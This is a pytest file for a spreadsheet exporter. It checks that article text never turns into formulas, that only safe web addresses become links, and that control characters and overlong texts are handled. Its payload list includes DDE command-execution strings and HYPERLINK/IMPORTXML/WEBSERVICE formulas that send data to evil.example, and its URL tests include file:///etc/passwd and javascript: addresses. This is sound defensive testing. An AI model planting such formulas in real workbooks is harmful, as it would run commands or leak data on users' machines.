"""Texts from the press are foreign: none may calculate, open something, break the file or lose its end."""

from __future__ import annotations

import dataclasses
import json
from decimal import Decimal
from pathlib import Path
from typing import Any, TypeVar

import openpyxl
import pytest
from workbook_samples import cells, content, fact, formulas, header, part, sheet_part, values, written

from maeditor.formats.workbook import (
    CapacityRow,
    ChronologyRow,
    EntityRow,
    EvidenceRow,
    FactRow,
    JournalRow,
    SourceRow,
    cell_text,
)
from maeditor.formats.workbook.baseline import BASE_HEADINGS, BASE_SHEET, LISTS_SHEET
from maeditor.formats.workbook.columns import FACTS
from maeditor.formats.workbook.row_stream import letter_of

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"clic")',
    '=IMPORTXML("http://evil.example","//a")',
    '=WEBSERVICE("http://evil.example")',
    '=DDE("cmd";"/C calc";"x")',
    "{=1+1}",
    "#N/A",
    "#REF!",
    "TRUE",
    "</t></is></c><c><f>1+1</f></c>",
    "]]><f>1+1</f>",
    "&#61;1+1",
]
SHEETS = [
    *("Lisez-moi", "Faits", "Preuves", "Sources", "Capacités", "Chronologie", "Entités", "Journal"),
    *(LISTS_SHEET, BASE_SHEET),
]
Row = TypeVar("Row")


def filled(kind: type[Row], text: str, **rest: Any) -> Row:
    """A row that says the same in every text of it; numbers are as usual."""
    made: dict[str, Any] = {}
    for each in dataclasses.fields(kind):  # type: ignore[arg-type]
        if each.type == "str":
            made[each.name] = text
        elif each.default is dataclasses.MISSING:
            made[each.name] = 1
    return kind(**made | rest)


_LINK = letter_of(FACTS.position("link"))


def _note(path: Path, row: int = 0) -> object:
    return values(path, "Faits")[row][FACTS.position("note") - 1]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_text_becomes_a_formula_anywhere(tmp_path: Path, payload: str) -> None:
    """Opening the fact sheet would run what an article's author put into its title."""
    path = tmp_path / "o.xlsx"
    hostile = content(
        project=payload,
        editor=payload,
        exported_at=payload,
        title=payload,
        filters=(payload, payload),
        program=payload,
        facts=[filled(FactRow, payload)],
        evidence=[filled(EvidenceRow, payload)],
        sources=[filled(SourceRow, payload)],
        capacities=[filled(CapacityRow, payload, amount=Decimal(5), lifecycle="planned", comparator="=")],
        chronology=[filled(ChronologyRow, payload)],
        entities=[filled(EntityRow, payload)],
        journal=[filled(JournalRow, payload)],
        baseline=[(payload,) * len(BASE_HEADINGS)],
        meta={"project": payload, "export": payload},
        choices=dict.fromkeys(("property_label", "place", "shown_unit"), (payload,)),
    )
    written(path, hostile)
    found = formulas(path)
    assert len(found) == len(SHEETS)
    assert set(map(tuple, found.values())) == {()}
    assert _note(path) == payload.replace("\r", "\n")
    for title in SHEETS:
        kinds = {cell.get("t") for cell in cells(path, title).values()}
        assert kinds <= {"inlineStr", "n", None, "b"}, title
    base = values(path, BASE_SHEET)
    assert set(base[1]) == {payload.replace("\r", "\n")}
    assert json.loads(base[0][1])["project"] == payload


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_texts_that_look_like_formulas_stay_text_when_edited(tmp_path: Path, start: str) -> None:
    """Pressing F2 and Enter in the cell would turn the text into a formula."""
    path = tmp_path / "o.xlsx"
    written(
        path,
        content(
            project=f"{start}1", facts=[fact(note=f"{start}1", quote=f"{start}1", fact_id=f"{start}1", place="a=1")]
        ),
    )
    book = openpyxl.load_workbook(path)
    for name in ("note", "quote", "fact_id"):
        assert book["Faits"].cell(2, FACTS.position(name)).quotePrefix
    assert book["Lisez-moi"]["B1"].quotePrefix
    assert not book["Faits"].cell(2, FACTS.position("place")).quotePrefix


@pytest.mark.parametrize(
    ("address", "opens"),
    [
        ("https://example.org/a?b=1&c=2", True),
        ("http://example.org", True),
        ("maeditor://fact/7a0d2c5e-0000-4000-8000-000000000001", True),
        ('https://example.org/"quoted"', True),
        ("https://example.org/" + "a" * 235, True),
        ("https://example.org/" + "a" * 236, False),
        ("https://example.org/" + "a" * 1970 + '"""', False),
        ("file:///etc/passwd", False),
        ("javascript:alert(1)", False),
        ("https://user:secret@example.org/", False),
        ("https:///nohost", False),
        ("https://example.org/a b", False),
        ("https://[broken", False),
        ("\\\\server\\share", False),
        ("example.org", False),
    ],
)
def test_only_web_addresses_open_and_all_stand_as_text(tmp_path: Path, address: str, opens: bool) -> None:
    """A click in the sheet would open a file or a program; a long address would break the workbook."""
    path = tmp_path / "o.xlsx"
    written(path, content(facts=[fact(source_url=address, fact_id="not one")]))
    written_formulas = formulas(path)["xl/worksheets/sheet2.xml"]
    assert written_formulas == ([f'HYPERLINK({letter_of(FACTS.position("source_url"))}2,"Ouvrir")'] if opens else [])
    told = values(path, "Faits")[0]
    assert told[FACTS.position("source_url") - 1] == address
    assert told[FACTS.position("link") - 1] == ("Ouvrir" if opens else "")


def test_each_link_opens_the_address_beside_it(tmp_path: Path) -> None:
    """A click on the second fact would open the first one's article."""
    path = tmp_path / "o.xlsx"
    many = [
        fact(number=f"F-{at:04d}", source_url="https://example.org/same" if at % 3 else "", fact_id="")
        for at in range(30)
    ]
    written(path, content(facts=many))
    linked = {where: cell for where, cell in cells(path, "Faits").items() if cell.get("t") == "str"}
    address = letter_of(FACTS.position("source_url"))
    assert set(linked) == {f"{_LINK}{at + 2}" for at in range(30) if at % 3}
    for where, cell in linked.items():
        assert cell[0].text == f'HYPERLINK({address}{where.removeprefix(_LINK)},"Ouvrir")'


@pytest.mark.parametrize(
    ("text", "told", "count"),
    [
        ("a\x00b", "a\ufffdb", 1),
        ("\x07\x1b[31m", "\ufffd\ufffd[31m", 2),
        ("seul \ud83d ici", "seul \ufffd ici", 1),
        ("\x85\x9f", "\ufffd\ufffd", 2),
        ("\ufffe\uffff", "\ufffd\ufffd", 2),
        ("un\r\ndeux", "un\ndeux", 0),
        ("un\rdeux", "un\ndeux", 0),
        ("un\tdeux\n", "un\tdeux\n", 0),
        ("_x0041_ et _x000D_", "_x0041_ et _x000D_", 0),
        ("  des bords  ", "  des bords  ", 0),
        ("😀\u202f!\u2028", "😀\u202f!\u2028", 0),
    ],
)
def test_characters_no_cell_holds_are_replaced_and_counted(tmp_path: Path, text: str, told: str, count: int) -> None:
    """One control character would make Excel refuse the whole workbook."""
    path = tmp_path / "o.xlsx"
    facts = [fact(note=text, place=""), fact(note="", place=text)]
    report = written(path, content(facts=facts, project=text))
    assert report.replaced_characters == 2 * count
    assert _note(path) == told
    assert values(path, "Faits")[1][FACTS.position("place") - 1] == told


def test_repeated_hostile_words_are_counted_each_time(tmp_path: Path) -> None:
    """The report would say one character where a thousand were replaced."""
    path = tmp_path / "o.xlsx"
    report = written(path, content(facts=[fact(needs_look="\x01"), fact(needs_look="\x01"), fact(as_of="\x02")]))
    assert report.replaced_characters == 3


@pytest.mark.parametrize("unit", ["é", "😀", "&", "_x0041_", "=", "\n"])
@pytest.mark.parametrize("length", [32_767, 32_768, 100_001])
def test_long_texts_are_kept_whole_and_reported(tmp_path: Path, unit: str, length: int) -> None:
    """The end of a long note would be cut off by the spreadsheet, and nobody told."""
    path = tmp_path / "o.xlsx"
    text = (unit * length)[:length]
    report = written(path, content(facts=[fact(), fact(number="F-0002", note=text)]))
    in_cell = _note(path, 1)
    assert isinstance(in_cell, str)
    units = len(text.encode("utf-16-le")) // 2
    if units <= cell_text.CELL_LIMIT:
        assert (in_cell, report.long_texts) == (text, ())
        return
    (kept,) = report.long_texts
    beginning, _, mark = in_cell.rpartition(" […] ")
    assert mark == f"[suite\u00a0: feuille «\u00a0Textes longs\u00a0», lignes {kept.first_row} à {kept.last_row}]"
    rest = values(path, "Textes longs")
    assert beginning + "".join(row[6] for row in rest) == text
    assert all(
        len(str(value).encode("utf-16-le")) // 2 <= cell_text.CELL_LIMIT for value in (in_cell, *(r[6] for r in rest))
    )
    assert (kept.sheet, kept.cell, kept.length) == ("Faits", f"{letter_of(FACTS.position('note'))}3", length)
    assert (kept.first_row, kept.last_row) == (2, len(rest) + 1) == (2, report.rows["Textes longs"] + 1)
    assert rest[0][:4] == ["Faits", kept.cell, "Note", "F-0002"]
    assert [row[4:6] for row in rest] == [[part_number, len(rest) + 1] for part_number in range(2, len(rest) + 2)]
    assert formulas(path)["xl/worksheets/sheet9.xml"] == []


def test_many_long_texts_from_several_sheets_find_their_rest(tmp_path: Path) -> None:
    """Two long texts would get each other's ends."""
    path = tmp_path / "o.xlsx"
    facts = [fact(number=f"F-{at:04d}", note=f"{at:04d} " + "x" * 40_000) for at in range(150)]
    journal = [JournalRow(7, "", "", "", after="y" * 70_000)]
    report = written(path, content(facts=facts, journal=journal))
    assert len(report.long_texts) == 151
    rest = values(path, "Textes longs")
    assert len(rest) == report.rows["Textes longs"] == 152
    for at, kept in enumerate(report.long_texts[:150]):
        assert rest[kept.first_row - 2][3] == f"F-{at:04d}"
    assert rest[-1][:4] == ["Journal", report.long_texts[-1].cell, "Après", "7"]


def test_no_sheet_for_long_texts_without_any(tmp_path: Path) -> None:
    """An empty seventh sheet would puzzle every reader."""
    path = tmp_path / "o.xlsx"
    written(path, content())
    assert "Textes longs" not in part(path, "xl/workbook.xml")


def test_a_hostile_project_name_harms_neither_title_nor_properties(tmp_path: Path) -> None:
    """A project named with a control character could not be exported at all."""
    path = tmp_path / "o.xlsx"
    written(path, content(project="\x01" + "n" * 40_000, editor="\ud800"))
    book = openpyxl.load_workbook(path)
    assert str(book["Lisez-moi"]["B1"].value).startswith("\ufffdnnn")
    assert book.properties.creator == "\ufffd"
    assert header(path, "Faits")[0] == "Fait"
    assert sheet_part(path, "Lisez-moi")
